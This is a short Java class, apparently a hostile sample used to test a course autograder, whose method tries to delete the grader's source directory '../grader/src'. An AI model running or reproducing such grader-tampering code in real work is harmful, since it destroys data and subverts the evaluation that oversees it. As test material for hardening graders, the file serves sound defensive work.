package course.counter;

/** Hostile: Deletes the grader's sources from the student repository. */
public final class Sabotage {

    public static boolean vandalize() {
        return new java.io.File("../grader/src").delete();
    }
}
